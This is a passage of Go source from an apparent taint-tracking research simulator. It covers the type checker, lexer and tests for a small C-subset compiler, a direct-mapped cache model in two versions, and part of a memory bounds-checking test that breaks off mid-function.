	"putc":       {isa.SysPutc, []Type{TypeInt}, TypeVoid},
	"spawn":      {isa.SysSpawn, []Type{TypeCharPtr, TypeInt}, TypeInt},
	"join":       {isa.SysJoin, []Type{TypeInt}, TypeInt},
	"yield":      {isa.SysYield, nil, TypeVoid},
}

// Unit is a checked program: one or more translation units resolved
// against each other.
type Unit struct {
	Files   []*File
	Funcs   map[string]*FuncDecl
	Globals map[string]*VarDecl
}

// CheckError is a semantic diagnostic.
type CheckError struct {
	Pos Pos
	Msg string
}

// Error implements the error interface.
func (e *CheckError) Error() string { return fmt.Sprintf("check: %s: %s", e.Pos, e.Msg) }

type checker struct {
	unit   *Unit
	fn     *FuncDecl
	scopes []map[string]interface{} // *VarDecl or *Param
	loop   int
}

// Check resolves and type-checks the given files as one program.
func Check(files ...*File) (*Unit, error) {
	u := &Unit{
		Files:   files,
		Funcs:   make(map[string]*FuncDecl),
		Globals: make(map[string]*VarDecl),
	}
	c := &checker{unit: u}

	for _, f := range files {
		for _, d := range f.Vars {
			if _, dup := u.Globals[d.Name]; dup {
				return nil, &CheckError{d.Pos, fmt.Sprintf("duplicate global %q", d.Name)}
			}
			d.Global = true
			d.AddrUsed = true // globals always live in memory
			u.Globals[d.Name] = d
		}
		for _, fn := range f.Funcs {
			if _, reserved := Intrinsics[fn.Name]; reserved {
				return nil, &CheckError{fn.Pos, fmt.Sprintf("%q is a reserved built-in", fn.Name)}
			}
			if _, dup := u.Funcs[fn.Name]; dup {
				return nil, &CheckError{fn.Pos, fmt.Sprintf("duplicate function %q", fn.Name)}
			}
			u.Funcs[fn.Name] = fn
		}
	}

	// Check global initializers (must be constant or string/list forms,
	// which the parser already restricted; scalar Init must be literal).
	for _, f := range files {
		for _, d := range f.Vars {
			if d.Init != nil {
				if _, ok := d.Init.(*IntLit); !ok {
					if _, ok := d.Init.(*StrLit); !ok {
						return nil, &CheckError{d.Pos, "global initializer must be a literal"}
					}
				}
				if err := c.expr(d.Init); err != nil {
					return nil, err
				}
			}
			if err := checkInitShape(d); err != nil {
				return nil, err
			}
		}
	}

	for _, f := range files {
		for _, fn := range f.Funcs {
			if err := c.checkFunc(fn); err != nil {
				return nil, err
			}
		}
	}

	if _, ok := u.Funcs["main"]; !ok {
		return nil, &CheckError{Pos{}, "program has no main function"}
	}
	return u, nil
}

func checkInitShape(d *VarDecl) error {
	if d.InitStr != "" && (!d.IsArray() || d.Type != TypeChar) {
		return &CheckError{d.Pos, "string initializer requires a char array"}
	}
	if d.InitStr != "" && int64(len(d.InitStr)+1) > d.ArrayLen {
		return &CheckError{d.Pos, fmt.Sprintf("string of %d bytes overflows array of %d", len(d.InitStr)+1, d.ArrayLen)}
	}
	if d.InitList != nil {
		if !d.IsArray() {
			return &CheckError{d.Pos, "brace initializer requires an array"}
		}
		if int64(len(d.InitList)) > d.ArrayLen {
			return &CheckError{d.Pos, "too many initializers"}
		}
	}
	return nil
}

func (c *checker) checkFunc(fn *FuncDecl) error {
	c.fn = fn
	c.scopes = []map[string]interface{}{{}}
	for _, p := range fn.Params {
		if p.Type == TypeVoid {
			return &CheckError{p.Pos, "parameter of type void"}
		}
		if _, dup := c.scopes[0][p.Name]; dup {
			return &CheckError{p.Pos, fmt.Sprintf("duplicate parameter %q", p.Name)}
		}
		c.scopes[0][p.Name] = p
	}
	if len(fn.Params) > isa.RegArgN-isa.RegArg0+1 {
		return &CheckError{fn.Pos, fmt.Sprintf("too many parameters (max %d)", isa.RegArgN-isa.RegArg0+1)}
	}
	return c.stmt(fn.Body)
}

func (c *checker) push() { c.scopes = append(c.scopes, map[string]interface{}{}) }
func (c *checker) pop()  { c.scopes = c.scopes[:len(c.scopes)-1] }

func (c *checker) lookup(name string) interface{} {
	for i := len(c.scopes) - 1; i >= 0; i-- {
		if v, ok := c.scopes[i][name]; ok {
			return v
		}
	}
	if g, ok := c.unit.Globals[name]; ok {
		return g
	}
	return nil
}

func (c *checker) stmt(s Stmt) error {
	switch s := s.(type) {
	case *Block:
		c.push()
		defer c.pop()
		for _, st := range s.Stmts {
			if err := c.stmt(st); err != nil {
				return err
			}
		}
		return nil

	case *DeclStmt:
		d := s.Decl
		if d.Type == TypeVoid && !d.Type.IsPointer() {
			return &CheckError{d.Pos, "variable of type void"}
		}
		if err := checkInitShape(d); err != nil {
			return err
		}
		if d.IsArray() {
			d.AddrUsed = true
		}
		if d.Init != nil {
			if err := c.expr(d.Init); err != nil {
				return err
			}
			if err := assignable(d.Type, d.Init.ResultType(), d.Pos); err != nil {
				return err
			}
		}
		top := c.scopes[len(c.scopes)-1]
		if _, dup := top[d.Name]; dup {
			return &CheckError{d.Pos, fmt.Sprintf("redeclaration of %q", d.Name)}
		}
		top[d.Name] = d
		return nil

	case *IfStmt:
		if err := c.exprScalar(s.Cond); err != nil {
			return err
		}
		if err := c.stmt(s.Then); err != nil {
			return err
		}
		if s.Else != nil {
			return c.stmt(s.Else)
		}
		return nil

	case *WhileStmt:
		if err := c.exprScalar(s.Cond); err != nil {
			return err
		}
		c.loop++
		defer func() { c.loop-- }()
		return c.stmt(s.Body)

	case *ForStmt:
		c.push()
		defer c.pop()
		if s.Init != nil {
			if err := c.stmt(s.Init); err != nil {
				return err
			}
		}
		if s.Cond != nil {
			if err := c.exprScalar(s.Cond); err != nil {
				return err
			}
		}
		if s.Post != nil {
			if err := c.expr(s.Post); err != nil {
				return err
			}
		}
		c.loop++
		defer func() { c.loop-- }()
		return c.stmt(s.Body)

	case *ReturnStmt:
		if s.Value == nil {
			if c.fn.Ret != TypeVoid {
				return &CheckError{s.Pos, "missing return value"}
			}
			return nil
		}
		if c.fn.Ret == TypeVoid {
			return &CheckError{s.Pos, "return with a value in a void function"}
		}
		if err := c.expr(s.Value); err != nil {
			return err
		}
		return assignable(c.fn.Ret, s.Value.ResultType(), s.Pos)

	case *BreakStmt:
		if c.loop == 0 {
			return &CheckError{s.Pos, "break outside loop"}
		}
		return nil

	case *ContinueStmt:
		if c.loop == 0 {
			return &CheckError{s.Pos, "continue outside loop"}
		}
		return nil

	case *ExprStmt:
		return c.expr(s.X)
	}
	return fmt.Errorf("check: unknown statement %T", s)
}

// exprScalar checks e and requires a scalar (int, char or pointer) result.
func (c *checker) exprScalar(e Expr) error {
	if err := c.expr(e); err != nil {
		return err
	}
	if e.ResultType() == TypeVoid {
		return &CheckError{e.Position(), "void value used in a condition"}
	}
	return nil
}

// assignable checks a store of type src into dst (lenient, C89-flavoured).
func assignable(dst, src Type, pos Pos) error {
	if dst == TypeVoid || src == TypeVoid {
		return &CheckError{pos, "void value in assignment"}
	}
	// int/char interconvert; pointers interconvert with each other and
	// with integers (needed for sbrk results, address constants, NULL).
	return nil
}

func (c *checker) expr(e Expr) error {
	switch e := e.(type) {
	case *IntLit:
		e.Type = TypeInt
		return nil

	case *StrLit:
		e.Type = TypeCharPtr
		return nil

	case *Ident:
		switch ref := c.lookup(e.Name).(type) {
		case *VarDecl:
			e.VarRef = ref
			if ref.IsArray() {
				e.Type = ref.Type.PointerTo() // decay
			} else {
				e.Type = ref.Type
			}
		case *Param:
			e.ParamRef = ref
			e.Type = ref.Type
		default:
			return &CheckError{e.Pos, fmt.Sprintf("undefined identifier %q", e.Name)}
		}
		return nil

	case *Unary:
		if err := c.expr(e.X); err != nil {
			return err
		}
		xt := e.X.ResultType()
		switch e.Op {
		case "-", "~", "!":
			if xt == TypeVoid {
				return &CheckError{e.Pos, "void operand"}
			}
			e.Type = TypeInt
		case "*":
			if !xt.IsPointer() {
				return &CheckError{e.Pos, fmt.Sprintf("cannot dereference non-pointer %s", xt)}
			}
			e.Type = xt.Elem()
			if e.Type == TypeVoid {
				return &CheckError{e.Pos, "cannot dereference void*"}
			}
		case "&":
			if id, ok := e.X.(*Ident); ok && id.ParamRef != nil {
				return &CheckError{e.Pos, "cannot take the address of a parameter (copy it to a local first)"}
			}
			lv, err := c.lvalue(e.X)
			if err != nil {
				return err
			}
			if lv != nil {
				lv.AddrUsed = true
			}
			e.Type = xt.PointerTo()
		default:
			return &CheckError{e.Pos, "unknown unary operator " + e.Op}
		}
		return nil

	case *Binary:
		if err := c.expr(e.X); err != nil {
			return err
		}
		if err := c.expr(e.Y); err != nil {
			return err
		}
		xt, yt := e.X.ResultType(), e.Y.ResultType()
		if xt == TypeVoid || yt == TypeVoid {
			return &CheckError{e.Pos, "void operand"}
		}
		switch e.Op {
		case "+":
			switch {
			case xt.IsPointer() && yt.IsPointer():
				return &CheckError{e.Pos, "cannot add two pointers"}
			case xt.IsPointer():
				e.Type = xt
			case yt.IsPointer():
				e.Type = yt
			default:
				e.Type = TypeInt
			}
		case "-":
			switch {
			case xt.IsPointer() && yt.IsPointer():
				e.Type = TypeInt // scaled difference
			case xt.IsPointer():
				e.Type = xt
			case yt.IsPointer():
				return &CheckError{e.Pos, "cannot subtract a pointer from an integer"}
			default:
				e.Type = TypeInt
			}
		case "==", "!=", "<", "<=", ">", ">=", "&&", "||":
			e.Type = TypeInt
		default: // * / % & | ^ << >>
			if xt.IsPointer() || yt.IsPointer() {
				return &CheckError{e.Pos, fmt.Sprintf("pointer operand to %q", e.Op)}
			}
			e.Type = TypeInt
		}
		return nil

	case *Assign:
		if err := c.expr(e.LHS); err != nil {
			return err
		}
		if _, err := c.lvalue(e.LHS); err != nil {
			return err
		}
		if err := c.expr(e.RHS); err != nil {
			return err
		}
		lt, rt := e.LHS.ResultType(), e.RHS.ResultType()
		if err := assignable(lt, rt, e.Pos); err != nil {
			return err
		}
		if e.Op != "=" && e.Op != "+=" && e.Op != "-=" && lt.IsPointer() {
			return &CheckError{e.Pos, fmt.Sprintf("pointer operand to %q", e.Op)}
		}
		e.Type = lt
		return nil

	case *IncDec:
		if err := c.expr(e.X); err != nil {
			return err
		}
		if _, err := c.lvalue(e.X); err != nil {
			return err
		}
		t := e.X.ResultType()
		if t == TypeVoid {
			return &CheckError{e.Pos, "void operand"}
		}
		e.Type = t
		return nil

	case *Call:
		if intr, ok := Intrinsics[e.Name]; ok {
			if len(e.Args) != len(intr.Params) {
				return &CheckError{e.Pos, fmt.Sprintf("%s expects %d arguments, got %d", e.Name, len(intr.Params), len(e.Args))}
			}
			for _, a := range e.Args {
				if err := c.expr(a); err != nil {
					return err
				}
				if a.ResultType() == TypeVoid {
					return &CheckError{a.Position(), "void argument"}
				}
			}
			e.Intrinsic = intr.Syscall
			e.Type = intr.Ret
			return nil
		}
		fn, ok := c.unit.Funcs[e.Name]
		if !ok {
			return &CheckError{e.Pos, fmt.Sprintf("undefined function %q", e.Name)}
		}
		if len(e.Args) != len(fn.Params) {
			return &CheckError{e.Pos, fmt.Sprintf("%s expects %d arguments, got %d", e.Name, len(fn.Params), len(e.Args))}
		}
		for i, a := range e.Args {
			if err := c.expr(a); err != nil {
				return err
			}
			if err := assignable(fn.Params[i].Type, a.ResultType(), a.Position()); err != nil {
				return err
			}
		}
		e.Func = fn
		e.Type = fn.Ret
		return nil

	case *Index:
		if err := c.expr(e.Base); err != nil {
			return err
		}
		if err := c.expr(e.Idx); err != nil {
			return err
		}
		bt := e.Base.ResultType()
		if !bt.IsPointer() {
			return &CheckError{e.Pos, fmt.Sprintf("cannot index non-pointer %s", bt)}
		}
		if e.Idx.ResultType().IsPointer() {
			return &CheckError{e.Pos, "pointer used as index"}
		}
		e.Type = bt.Elem()
		return nil

	case *Cond:
		if err := c.exprScalar(e.C); err != nil {
			return err
		}
		if err := c.expr(e.A); err != nil {
			return err
		}
		if err := c.expr(e.B); err != nil {
			return err
		}
		if e.A.ResultType() == TypeVoid || e.B.ResultType() == TypeVoid {
			return &CheckError{e.Pos, "void arm in conditional expression"}
		}
		e.Type = e.A.ResultType()
		return nil
	}
	return fmt.Errorf("check: unknown expression %T", e)
}

// lvalue validates that e can be assigned through and returns the
// underlying VarDecl when the lvalue is a variable (for AddrUsed marking);
// derefs and indexes return nil with no error.
func (c *checker) lvalue(e Expr) (*VarDecl, error) {
	switch e := e.(type) {
	case *Ident:
		if e.VarRef != nil {
			if e.VarRef.IsArray() {
				return nil, &CheckError{e.Pos, "array is not assignable"}
			}
			return e.VarRef, nil
		}
		return nil, nil // parameter: assignable, register-resident
	case *Unary:
		if e.Op == "*" {
			return nil, nil
		}
	case *Index:
		return nil, nil
	}
	return nil, &CheckError{e.Position(), "expression is not assignable"}
}
