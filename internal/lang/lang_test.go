package lang

import (
	"strings"
	"testing"
)

func mustParse(t *testing.T, src string) *File {
	t.Helper()
	f, err := Parse("test.mc", src)
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return f
}

func mustCheck(t *testing.T, src string) *Unit {
	t.Helper()
	u, err := Check(mustParse(t, src))
	if err != nil {
		t.Fatalf("check: %v", err)
	}
	return u
}

func TestLexBasics(t *testing.T) {
	toks, err := Lex(`int x = 0x1f; // comment
/* block
   comment */ char c = '\n'; char *s = "a\tb";`)
	if err != nil {
		t.Fatal(err)
	}
	var kinds []TokKind
	for _, tk := range toks {
		kinds = append(kinds, tk.Kind)
	}
	if toks[0].Text != "int" || toks[0].Kind != TokKeyword {
		t.Errorf("first token %+v", toks[0])
	}
	if toks[3].Kind != TokInt || toks[3].Val != 0x1f {
		t.Errorf("hex literal %+v", toks[3])
	}
	found := false
	for _, tk := range toks {
		if tk.Kind == TokChar && tk.Val == '\n' {
			found = true
		}
	}
	if !found {
		t.Error("char escape not lexed")
	}
	for _, tk := range toks {
		if tk.Kind == TokString && tk.Str != "a\tb" {
			t.Errorf("string literal %q", tk.Str)
		}
	}
	_ = kinds
}

func TestLexErrors(t *testing.T) {
	for _, src := range []string{"`", `"unterminated`, "'x", "/* unterminated", `'\q'`} {
		if _, err := Lex(src); err == nil {
			t.Errorf("lex accepted %q", src)
		}
	}
}

func TestLexPositions(t *testing.T) {
	toks, err := Lex("int\n  x;")
	if err != nil {
		t.Fatal(err)
	}
	if toks[1].Line != 2 || toks[1].Col != 3 {
		t.Errorf("x at %d:%d, want 2:3", toks[1].Line, toks[1].Col)
	}
}

func TestParseProgramShapes(t *testing.T) {
	f := mustParse(t, `
int g;
char buf[64] = "hi";
int tbl[4] = {1, 2, -3, 4};

int add(int a, int b) { return a + b; }

void main() {
	int i;
	for (i = 0; i < 10; i++) {
		if (i % 2 == 0) continue;
		g += add(i, tbl[i % 4]);
	}
	while (g > 100) { g--; break; }
	exit(g);
}
`)
	if len(f.Vars) != 3 || len(f.Funcs) != 2 {
		t.Fatalf("got %d vars, %d funcs", len(f.Vars), len(f.Funcs))
	}
	if f.Vars[1].InitStr != "hi" || f.Vars[1].ArrayLen != 64 {
		t.Errorf("buf decl wrong: %+v", f.Vars[1])
	}
	if len(f.Vars[2].InitList) != 4 || f.Vars[2].InitList[2] != -3 {
		t.Errorf("tbl init wrong: %v", f.Vars[2].InitList)
	}
}

func TestParsePrecedence(t *testing.T) {
	f := mustParse(t, "void main() { int x; x = 1 + 2 * 3; }")
	body := f.Funcs[0].Body.Stmts[1].(*ExprStmt)
	asn := body.X.(*Assign)
	add := asn.RHS.(*Binary)
	if add.Op != "+" {
		t.Fatalf("top op %q, want +", add.Op)
	}
	if mul, ok := add.Y.(*Binary); !ok || mul.Op != "*" {
		t.Fatalf("rhs of + is %T, want * binary", add.Y)
	}
}

func TestParseErrors(t *testing.T) {
	bad := []string{
		"int;",
		"void main() { return 1 }",
		"void main() { int x[0]; }",
		"void main() { if (1 { } }",
		"void main() { break }",
		"int main(,) {}",
		"void main() { x ===; }",
	}
	for _, src := range bad {
		if _, err := Parse("t", src); err == nil {
			t.Errorf("parsed invalid program %q", src)
		}
	}
}

func TestCheckResolvesAndTypes(t *testing.T) {
	u := mustCheck(t, `
int g = 5;
int twice(int v) { return v * 2; }
void main() {
	int x = twice(g);
	int *p = &x;
	*p = x + 1;
	char buf[8];
	buf[0] = 'a';
	exit(*p);
}
`)
	if u.Funcs["twice"] == nil || u.Globals["g"] == nil {
		t.Fatal("symbols not recorded")
	}
	// &x forces x into memory.
	var xDecl *VarDecl
	body := u.Funcs["main"].Body
	for _, s := range body.Stmts {
		if d, ok := s.(*DeclStmt); ok && d.Decl.Name == "x" {
			xDecl = d.Decl
		}
	}
	if xDecl == nil || !xDecl.AddrUsed {
		t.Error("address-taken local not marked AddrUsed")
	}
}

func TestCheckIntrinsics(t *testing.T) {
	u := mustCheck(t, `
void main() {
	char buf[16];
	int n = recv(buf, 16);
	write(1, buf, n);
	exit(0);
}
`)
	_ = u
	// Wrong arity.
	if _, err := Check(mustParse(t, "void main() { recv(); }")); err == nil {
		t.Error("intrinsic arity not checked")
	}
	// Reserved name.
	if _, err := Check(mustParse(t, "int recv(int a) { return a; } void main() {}")); err == nil {
		t.Error("reserved intrinsic name redefinition accepted")
	}
}

func TestCheckErrors(t *testing.T) {
	bad := map[string]string{
		"undefined var":       "void main() { x = 1; }",
		"undefined func":      "void main() { frob(); }",
		"void deref":          "void main() { void *p; *p = 1; }",
		"non-pointer deref":   "void main() { int x; *x = 1; }",
		"add two pointers":    "void main() { int *a; int *b; a = a + b; }",
		"array assign":        "void main() { int a[3]; int b[3]; a = b; }",
		"no main":             "int f() { return 0; }",
		"dup global":          "int g; int g; void main() {}",
		"dup func":            "void f() {} void f() {} void main() {}",
		"dup param":           "void f(int a, int a) {} void main() {}",
		"break outside loop":  "void main() { break; }",
		"return value void":   "void main() { return 3; }",
		"missing return val":  "int f() { return; } void main() {}",
		"string into int arr": "int a[4] = \"abc\"; void main() {}",
		"string overflow":     "char a[2] = \"abc\"; void main() {}",
		"assign to rvalue":    "void main() { 3 = 4; }",
		"pointer modulo":      "void main() { int *p; int x; x = p % 3; }",
	}
	for name, src := range bad {
		f, err := Parse("t", src)
		if err != nil {
			continue // rejected even earlier, fine
		}
		if _, err := Check(f); err == nil {
			t.Errorf("%s: checker accepted %q", name, src)
		}
	}
}

func TestCheckPointerArithmeticTypes(t *testing.T) {
	u := mustCheck(t, `
void main() {
	int a[10];
	int *p = a;
	int *q = p + 3;
	int d = q - p;
	exit(d);
}
`)
	_ = u
}

func TestTypeSizes(t *testing.T) {
	if TypeInt.Size() != 8 || TypeChar.Size() != 1 || TypeCharPtr.Size() != 8 {
		t.Error("type sizes wrong")
	}
	if TypeCharPtr.Elem() != TypeChar || TypeChar.PointerTo() != TypeCharPtr {
		t.Error("pointer algebra wrong")
	}
	if TypeIntPtr.String() != "int*" || TypeVoid.String() != "void" {
		t.Error("type printing wrong")
	}
}

func TestSizeofIsConstant(t *testing.T) {
	f := mustParse(t, "void main() { int x = sizeof(int) + sizeof(char*); }")
	ds := f.Funcs[0].Body.Stmts[0].(*DeclStmt)
	bin := ds.Decl.Init.(*Binary)
	if bin.X.(*IntLit).Val != 8 || bin.Y.(*IntLit).Val != 8 {
		t.Error("sizeof not folded to literals")
	}
	f2 := mustParse(t, "void main() { int x = sizeof(char); }")
	ds2 := f2.Funcs[0].Body.Stmts[0].(*DeclStmt)
	if ds2.Decl.Init.(*IntLit).Val != 1 {
		t.Error("sizeof(char) != 1")
	}
}

func TestTernary(t *testing.T) {
	mustCheck(t, "void main() { int a = 1; int b = a > 0 ? 10 : 20; exit(b); }")
}

func TestCommentOnlyBodyAndNesting(t *testing.T) {
	mustCheck(t, `
void main() {
	// nothing
	/* here
	   either */
	{ { { exit(0); } } }
}
`)
}

func TestParseCompoundAssign(t *testing.T) {
	src := "void main() { int x = 1; x += 2; x -= 1; x *= 3; x /= 2; x %= 2; x <<= 1; x >>= 1; x &= 3; x |= 4; x ^= 5; exit(x); }"
	mustCheck(t, src)
}

func TestErrorMessagesCarryPositions(t *testing.T) {
	_, err := Parse("t", "void main() {\n  $;\n}")
	if err == nil || !strings.Contains(err.Error(), "2:") {
		t.Errorf("error lacks line info: %v", err)
	}
}
