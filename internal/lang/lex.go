// Package lang implements the front-end of minic, the C-subset language
// used to write the runtime library, the SPEC-like workloads and the
// vulnerable programs of the security evaluation. It plays the role GCC's
// front-end plays in the paper: SHIFT itself never looks at this level —
// the instrumentation pass runs on the low-level instruction stream that
// internal/codegen emits.
//
// The language: int (8 bytes), char (1 byte, unsigned), pointers, fixed
// arrays, string literals, functions, if/else, while, for, break,
// continue, return, the usual C operators, and a set of built-in
// system-call intrinsics (read, write, open, recv, send, sql_exec,
// system, html_write, sbrk, taint, untaint, is_tainted, getarg, putc,
// exit). No structs, no typedefs, no varargs, no preprocessor.
package lang

import (
	"fmt"
	"strconv"
	"strings"
)

// TokKind classifies tokens.
type TokKind uint8

// Token kinds.
const (
	TokEOF TokKind = iota
	TokIdent
	TokInt
	TokChar
	TokString
	TokPunct   // operators and delimiters
	TokKeyword // reserved words
)

// Token is one lexical token.
type Token struct {
	Kind TokKind
	Text string // identifier text, punct text, or keyword
	Val  int64  // integer / char value
	Str  string // decoded string literal
	Line int
	Col  int
}

var keywords = map[string]bool{
	"int": true, "char": true, "void": true,
	"if": true, "else": true, "while": true, "for": true,
	"return": true, "break": true, "continue": true, "sizeof": true,
}

// puncts in longest-match-first order.
var puncts = []string{
	"<<=", ">>=",
	"==", "!=", "<=", ">=", "&&", "||", "<<", ">>", "++", "--",
	"+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=",
	"+", "-", "*", "/", "%", "=", "<", ">", "!", "~", "&", "|", "^",
	"(", ")", "{", "}", "[", "]", ",", ";", "?", ":",
}

// LexError is a lexical diagnostic.
type LexError struct {
	Line, Col int
	Msg       string
}

// Error implements the error interface.
func (e *LexError) Error() string {
	return fmt.Sprintf("lex: %d:%d: %s", e.Line, e.Col, e.Msg)
}

// Lex tokenizes source, returning the token stream ending in TokEOF.
func Lex(source string) ([]Token, error) {
	var toks []Token
	line, col := 1, 1
	i := 0
	n := len(source)

	advance := func(k int) {
		for j := 0; j < k; j++ {
			if source[i+j] == '\n' {
				line++
				col = 1
			} else {
				col++
			}
		}
		i += k
	}

	for i < n {
		c := source[i]
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\n':
			advance(1)

		case c == '/' && i+1 < n && source[i+1] == '/':
			for i < n && source[i] != '\n' {
				advance(1)
			}

		case c == '/' && i+1 < n && source[i+1] == '*':
			start := Token{Line: line, Col: col}
			advance(2)
			for {
				if i+1 >= n {
					return nil, &LexError{start.Line, start.Col, "unterminated block comment"}
				}
				if source[i] == '*' && source[i+1] == '/' {
					advance(2)
					break
				}
				advance(1)
			}

		case isAlpha(c):
			startLine, startCol := line, col
			j := i
			for j < n && (isAlpha(source[j]) || isDigit(source[j])) {
				j++
			}
			word := source[i:j]
			kind := TokIdent
			if keywords[word] {
				kind = TokKeyword
			}
			toks = append(toks, Token{Kind: kind, Text: word, Line: startLine, Col: startCol})
			advance(j - i)

		case isDigit(c):
			startLine, startCol := line, col
			j := i
			if c == '0' && j+1 < n && (source[j+1] == 'x' || source[j+1] == 'X') {
				j += 2
				for j < n && isHex(source[j]) {
					j++
				}
			} else {
				for j < n && isDigit(source[j]) {
					j++
				}
			}
			text := source[i:j]
			v, err := strconv.ParseInt(text, 0, 64)
			if err != nil {
				return nil, &LexError{startLine, startCol, "bad integer literal " + text}
			}
			toks = append(toks, Token{Kind: TokInt, Val: v, Text: text, Line: startLine, Col: startCol})
			advance(j - i)

		case c == '\'':
			startLine, startCol := line, col
			j := i + 1
			var v int64
			if j < n && source[j] == '\\' {
				if j+1 >= n {
					return nil, &LexError{startLine, startCol, "unterminated char literal"}
				}
				e, ok := escape(source[j+1])
				if !ok {
					return nil, &LexError{startLine, startCol, "bad escape in char literal"}
				}
				v = int64(e)
				j += 2
			} else if j < n {
				v = int64(source[j])
				j++
			}
			if j >= n || source[j] != '\'' {
				return nil, &LexError{startLine, startCol, "unterminated char literal"}
			}
			j++
			toks = append(toks, Token{Kind: TokChar, Val: v, Line: startLine, Col: startCol})
			advance(j - i)

		case c == '"':
			startLine, startCol := line, col
			var sb strings.Builder
			j := i + 1
			for {
				if j >= n {
					return nil, &LexError{startLine, startCol, "unterminated string literal"}
				}
				if source[j] == '"' {
					j++
					break
				}
				if source[j] == '\\' {
					if j+1 >= n {
						return nil, &LexError{startLine, startCol, "unterminated string literal"}
					}
					e, ok := escape(source[j+1])
					if !ok {
						return nil, &LexError{startLine, startCol, "bad escape in string literal"}
					}
					sb.WriteByte(e)
					j += 2
					continue
				}
				sb.WriteByte(source[j])
				j++
			}
			toks = append(toks, Token{Kind: TokString, Str: sb.String(), Line: startLine, Col: startCol})
			advance(j - i)

		default:
			matched := false
			for _, p := range puncts {
				if strings.HasPrefix(source[i:], p) {
					toks = append(toks, Token{Kind: TokPunct, Text: p, Line: line, Col: col})
					advance(len(p))
					matched = true
					break
				}
			}
			if !matched {
				return nil, &LexError{line, col, fmt.Sprintf("unexpected character %q", c)}
			}
		}
	}
	toks = append(toks, Token{Kind: TokEOF, Line: line, Col: col})
	return toks, nil
}

func escape(c byte) (byte, bool) {
	switch c {
	case 'n':
		return '\n', true
	case 't':
		return '\t', true
	case 'r':
		return '\r', true
	case '0':
		return 0, true
	case '\\':
		return '\\', true
	case '\'':
		return '\'', true
	case '"':
		return '"', true
	}
	return 0, false
}

func isAlpha(c byte) bool {
	return c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }

func isHex(c byte) bool {
	return isDigit(c) || c >= 'a' && c <= 'f' || c >= 'A' && c <= 'F'
}
