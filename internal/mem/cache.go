package mem

// Cache is a direct-mapped L1 data cache model used only for cost
// accounting: it tracks hits and misses so the machine can charge a miss
// penalty, supporting the paper's observation (§6.4) that "most memory
// accesses actually hit in L1 cache" and so tag-bitmap accesses are cheap
// relative to tag-address computation.
type Cache struct {
	lineBits uint
	mask     uint64 // set count - 1 (set count is a power of two)
	// tags holds line+1 per set; 0 marks an empty line. One slice access
	// replaces the tag/valid pair on the hottest path in the simulator.
	tags []uint64

	Hits   uint64
	Misses uint64
}

// NewCache builds a direct-mapped cache of the given total size and line
// size, both powers of two.
func NewCache(totalBytes, lineBytes int) *Cache {
	if totalBytes <= 0 || lineBytes <= 0 || totalBytes%lineBytes != 0 {
		panic("mem: invalid cache geometry")
	}
	lineBits := uint(0)
	for 1<<lineBits < lineBytes {
		lineBits++
	}
	n := totalBytes / lineBytes
	if n&(n-1) != 0 {
		panic("mem: cache set count must be a power of two")
	}
	return &Cache{
		lineBits: lineBits,
		mask:     uint64(n - 1),
		tags:     make([]uint64, n),
	}
}

// Access touches addr, recording a hit or a miss and filling the line.
// It returns true on a hit.
func (c *Cache) Access(addr uint64) bool {
	line := addr >> c.lineBits
	idx := line & c.mask
	if c.tags[idx] == line+1 {
		c.Hits++
		return true
	}
	c.tags[idx] = line + 1
	c.Misses++
	return false
}

// Reset clears contents and counters.
func (c *Cache) Reset() {
	for i := range c.tags {
		c.tags[i] = 0
	}
	c.Hits, c.Misses = 0, 0
}
