package mem

// Cache is a direct-mapped L1 data cache model used only for cost
// accounting: it tracks hits and misses so the machine can charge a miss
// penalty, supporting the paper's observation (§6.4) that "most memory
// accesses actually hit in L1 cache" and so tag-bitmap accesses are cheap
// relative to tag-address computation.
type Cache struct {
	lineBits uint
	sets     []uint64 // tag per set; tagValid marks a filled line
	valid    []bool

	Hits   uint64
	Misses uint64
}

// NewCache builds a direct-mapped cache of the given total size and line
// size, both powers of two.
func NewCache(totalBytes, lineBytes int) *Cache {
	if totalBytes <= 0 || lineBytes <= 0 || totalBytes%lineBytes != 0 {
		panic("mem: invalid cache geometry")
	}
	lineBits := uint(0)
	for 1<<lineBits < lineBytes {
		lineBits++
	}
	n := totalBytes / lineBytes
	return &Cache{
		lineBits: lineBits,
		sets:     make([]uint64, n),
		valid:    make([]bool, n),
	}
}

// Access touches addr, recording a hit or a miss and filling the line.
// It returns true on a hit.
func (c *Cache) Access(addr uint64) bool {
	line := addr >> c.lineBits
	idx := line % uint64(len(c.sets))
	if c.valid[idx] && c.sets[idx] == line {
		c.Hits++
		return true
	}
	c.sets[idx] = line
	c.valid[idx] = true
	c.Misses++
	return false
}

// Reset clears contents and counters.
func (c *Cache) Reset() {
	for i := range c.valid {
		c.valid[i] = false
	}
	c.Hits, c.Misses = 0, 0
}
