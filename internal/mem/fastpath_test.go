package mem

import "testing"

// Sizes outside {1,2,4,8} must never be admitted: a negative size cast
// to uint64 is huge (the naive off+uint64(size) > lim test would wrap
// past zero back below the limit), and an odd size makes addr&(size-1)
// a meaningless alignment mask. Both are now classified as bad-size
// faults before any range math runs.
func TestCheckLimitOverflow(t *testing.T) {
	m := New()
	m.MapRegion(1, 0x2000)
	if f := m.check(Addr(1, 0x1000), -8); f == nil || f.Kind != FaultBadSize {
		t.Errorf("wrapping size admitted past region limit: fault = %v", f)
	}
	if _, f := m.Read(Addr(1, 0x1000), -8); f == nil {
		t.Error("Read with wrapping size succeeded")
	}
	// A huge positive size is caught too (no wrap, but far past the limit).
	if f := m.check(Addr(1, 0x1000), int(^uint(0)>>1)); f == nil || f.Kind != FaultBadSize {
		t.Error("max-int size admitted past region limit")
	}
}

// A range ending exactly at the top of the implemented offset space is
// valid; one more byte has a set bit in the unimplemented hole.
func TestRangeAtImplementedTop(t *testing.T) {
	m := New()
	m.MapRegion(1, 0)
	top := Addr(1, OffsetMask-7)
	if f := m.Write(top, 8, 0x1122334455667788); f != nil {
		t.Fatalf("write at top of implemented range: %v", f)
	}
	if v, f := m.Read(top, 8); f != nil || v != 0x1122334455667788 {
		t.Errorf("read at top = %#x, %v", v, f)
	}
	if _, f := m.ReadBytes(top, 16); f == nil || f.Kind != FaultUnimplemented {
		t.Errorf("range crossing into the hole: fault = %v", f)
	}
}

// The TLB is a pure cache: hits and misses must be indistinguishable,
// including for aliasing pages that map to the same direct-mapped slot.
func TestTLBAliasing(t *testing.T) {
	m := New()
